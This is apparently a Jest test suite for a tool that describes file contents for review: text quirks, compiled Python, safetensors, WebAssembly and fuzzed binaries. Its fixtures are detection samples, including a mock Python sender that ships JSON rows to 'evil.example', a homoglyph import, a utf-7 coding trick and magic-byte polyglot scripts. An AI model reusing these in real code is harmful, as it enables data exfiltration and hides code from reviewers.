import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { toUtf8 } from '../../../src/bytes/byteForms.ts';
import { describeContent } from '../../../src/review/content/describeContent.ts';
import { assemblyOf, fromPython, sharedObject } from '../../support/realFiles.ts';

function latin1(text: string): Uint8Array {
  return Buffer.from(text, 'latin1');
}

describe('a text', () => {
  test('stands whole, whatever is in it, and says what does not show', async () => {
    const long = `${'x'.repeat(5_000_000)}\n`;
    expect(await describeContent('app/a.py', toUtf8(long))).toMatchObject({
      kind: 'text',
      text: long,
      lines: 1,
    });
    expect(await describeContent('a.py', toUtf8('import оs\r\nx\ry\n'))).toEqual({
      kind: 'text',
      text: 'import оs\r\nx\ry\n',
      lines: 2,
      isAsciiOnly: false,
      facts: [
        '1 line ends with CR LF',
        '1 carriage return within lines: a terminal would write over what stands before',
      ],
    });
    expect(await describeContent('run', toUtf8(''))).toMatchObject({
      kind: 'text',
      lines: 0,
      isAsciiOnly: true,
    });
  });

  test('that Python reads in another coding says so', async () => {
    const coded = toUtf8('#!/usr/bin/python3\n# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0-\n');
    expect(await describeContent('a.py', coded)).toMatchObject({
      kind: 'text',
      facts: ['names utf-7 as its coding: Python would read another text than stands here'],
    });
    const usual = toUtf8('# coding: utf-8\n');
    expect(await describeContent('a.py', usual)).not.toHaveProperty('facts');
  });

  test('is a text for every interpreter, whatever it begins with or holds', async () => {
    for (const [path, bytes] of [
      ['run', toUtf8('#!/bin/sh\ncat\n')],
      ['run', latin1(`#!/bin/sh\n${'\0\x01\xff'.repeat(50)}\ncat\n`)],
      ['evil.py', latin1(`# \xff\n${'\x01'.repeat(50)}`)],
      ['run', toUtf8('GIF8=1\ncat /sp/inputs/*\n')],
      ['run', toUtf8('MZ=1; cat\n')],
      ['run', latin1('BZh=\xff; cat /sp/inputs/* >/sp/output/x\n')],
      ['run', latin1('\x7fELF\ncat /sp/inputs/* >/sp/output/x\n')],
      ['run', latin1('PK\x03\x04 || cat /sp/inputs/* >/sp/output/x; : a longer line\n')],
      ['run', new Uint8Array(Buffer.from('\ufeffcat /sp/inputs', 'utf16le'))],
    ] as const) {
      const content = await describeContent(path, bytes);
      expect([path, content.kind === 'text' ? content.text : content]).toEqual([
        path,
        expect.stringMatching(/cat|# ÿ/),
      ]);
    }
  });

  test('whose bytes are well-formed UTF-8 without a NUL is those characters', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme', minLength: 1 }), async (text) => {
        fc.pre(!/\p{Cc}/u.test(text) && text.isWellFormed() && !text.startsWith('\ufeff'));
        const content = await describeContent('x', toUtf8(text));
        expect(content).toMatchObject({ kind: 'text', text });
        if (content.kind === 'text') expect(content.isAsciiOnly).toBe(/^[\t\n\r -~]*$/.test(text));
      }),
    );
  });
});

const SOURCE = `import socket, json
PLACE = ("evil.example", 443)
class Sender:
    def send(self, rows):
        return [socket.create_connection(PLACE).send(json.dumps(r).encode()) for r in rows]
def f(a, *, b=2.5, c=10**40, d=1j): return lambda z: {z, None, ..., b"bytes"}
`;

describe('compiled Python', () => {
  const compile = (mode: string): Uint8Array =>
    fromPython(`import py_compile, tempfile, os
d = tempfile.mkdtemp()
p = os.path.join(d, 'm.py')
open(p, 'w').write(${JSON.stringify(SOURCE)})
os.utime(p, (1700000000, 1700000000))
c = py_compile.compile(p, os.path.join(d, 'm.pyc'), invalidation_mode=py_compile.PycInvalidationMode.${mode})
out.write(open(c, 'rb').read())`);

  test('tells its source, the names and texts in it, and each function', async () => {
    const bytes = compile('TIMESTAMP');
    const content = await describeContent('m.pyc', bytes);
    expect(content).toMatchObject({
      what: expect.stringMatching(/^compiled Python, version 3\.\d+$/),
    });
    if (content.kind !== 'binary') return;
    expect(content.facts[0]).toBe(
      'taken where its source is of 2023-11-14T22:13:20.000Z and has 281 bytes (modulo 2^32)'.replace(
        '281',
        String(SOURCE.length),
      ),
    );
    expect(content.facts.find((fact) => fact.includes('names that it uses'))).toMatch(
      /create_connection.*dumps.*socket/,
    );
    expect(content.facts.find((fact) => fact.includes('texts in it'))).toContain('evil.example');
    expect(content.facts.find((fact) => fact.includes('functions, each'))).toMatch(/<module> [0-9a-f]{12}/);
    expect(content.facts.join()).not.toContain('in part alone');
    expect(await describeContent('m.pyc', Buffer.concat([bytes, Buffer.from('more')]))).toMatchObject({
      facts: expect.arrayContaining(['4 bytes behind its code']),
    });
  });

  test('that Python takes without a look at its source says so', async () => {
    expect(await describeContent('m.pyc', compile('UNCHECKED_HASH'))).toMatchObject({
      facts: expect.arrayContaining([
        expect.stringMatching(/^taken whatever its source is: of one with the hash [0-9a-f]{16}, which/),
      ]),
    });
  });
});

function safetensors(header: string, data = 0): Uint8Array {
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(Buffer.byteLength(header)));
  return Buffer.concat([length, Buffer.from(header), Buffer.alloc(data)]);
}

describe('tensors', () => {
  test('are listed with types and shapes; what is behind or twice is said', async () => {
    const header =
      '{"__metadata__":{"format":"pt"},"w, x":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]},"__proto__":{"dtype":"I8","shape":[],"data_offsets":[24,25]}}';
    expect(await describeContent('model.safetensors', safetensors(header, 25))).toEqual({
      kind: 'binary',
      what: 'safetensors',
      facts: ['1 member of its metadata: format=pt', '2 tensors: "w, x F32 [2,3]", __proto__ I8 []'],
    });
    expect(await describeContent('m', safetensors(header, 30))).toMatchObject({
      facts: expect.arrayContaining(['5 bytes behind the last tensor']),
    });
    expect(await describeContent('m', safetensors('{"a":{},"a":{}}'))).toMatchObject({
      facts: expect.arrayContaining([expect.stringContaining('the same name twice')]),
    });
    expect(await describeContent('m', safetensors('{"a":'))).toMatchObject({
      what: 'begins as safetensors, and is none that can be read',
    });
  });
});

describe('WebAssembly', () => {
  test('tells what it imports, exports and starts', async () => {
    const bytes = Uint8Array.from([
      ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
      ...[1, 4, 1, 0x60, 0, 0],
      ...[2, 11, 1, 3, 0x65, 0x6e, 0x76, 3, 0x74, 0x61, 0x6b, 0, 0],
      ...[7, 5, 1, 1, 0x66, 0, 0],
      ...[8, 1, 0],
    ]);
    expect(await describeContent('x.wasm', bytes)).toEqual({
      kind: 'binary',
      what: 'WebAssembly, version 1',
      facts: ['runs a function when it is loaded', '1 import: env.tak (function)', '1 export: f (function)'],
    });
  });
});

describe('anything', () => {
  const vectors: readonly (readonly [string, () => Uint8Array])[] = [
    ['x.so', () => sharedObject(assemblyOf(['a'], ['b']))],
    [
      'x.zip',
      () =>
        fromPython(
          'import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, "w")\nz.writestr("a.npy", b"x"); z.writestr("d.pkl", b"N."); z.close()\nout.write(b.getvalue())',
        ),
    ],
    ['x.npy', () => latin1("\x93NUMPY\x01\x00\x10\x00{'descr': '|O'} \nN.")],
    [
      'x.pyc',
      () =>
        fromPython(
          'import importlib.util, marshal\nout.write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("import os\\ndef f(): return os", "x", "exec")))',
        ),
    ],
    ['x.safetensors', () => safetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4)],
    [
      'x.wasm',
      () =>
        Uint8Array.from([
          0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 2, 11, 1, 3, 0x65, 0x6e, 0x76, 3, 0x74, 0x61, 0x6b, 0, 0,
        ]),
    ],
    [
      'x.gguf',
      () =>
        Uint8Array.from([
          ...latin1('GGUF'),
          3,
          0,
          0,
          0,
          ...new Array<number>(7).fill(0),
          0,
          1,
          ...new Array<number>(7).fill(0),
          1,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0x61,
          4,
          0,
          0,
          0,
          1,
          0,
          0,
          0,
        ]),
    ],
    ['x.png', () => latin1('\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01')],
    ['x.db', () => latin1('SQLite format 3\0\x10\0')],
  ];

  test.each(vectors)('like %s, changed or cut: is described, and nothing is thrown', async (path, make) => {
    const real = make();
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(real.length - 1), fc.oneof(fc.constant(255), fc.nat(255))), {
          maxLength: 12,
        }),
        fc.nat(real.length),
        async (changes, length) => {
          const bytes = Uint8Array.from(real);
          for (const [at, value] of changes) bytes[at] = value;
          for (const one of [bytes, bytes.subarray(0, length)]) {
            const content = await describeContent(path, one);
            expect(['text', 'binary']).toContain(content.kind);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  test('of random bytes is described, and nothing is thrown', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ maxLength: 400 }),
        fc.constantFrom('a', 'a.pyc', 'a.py', 'a.pkl'),
        async (bytes, path) => {
          expect(['text', 'binary']).toContain((await describeContent(path, bytes)).kind);
        },
      ),
      { numRuns: 500 },
    );
  });

  test('of no known kind tells its words, and where their list is cut', async () => {
    const words = Buffer.concat(
      Array.from({ length: 600 }, (_, index) =>
        latin1(`\0\x01\xfe\xffword-${String(index).padStart(4, '0')}`),
      ),
    );
    expect(await describeContent('x', Buffer.concat([Buffer.alloc(9000), words]))).toMatchObject({
      what: 'data of no known kind',
      facts: [
        'begins with 00000000000000000000000000000000',
        expect.stringMatching(/^600 runs of printable characters, of which the first 500: word-0000, /),
      ],
    });
  });
});
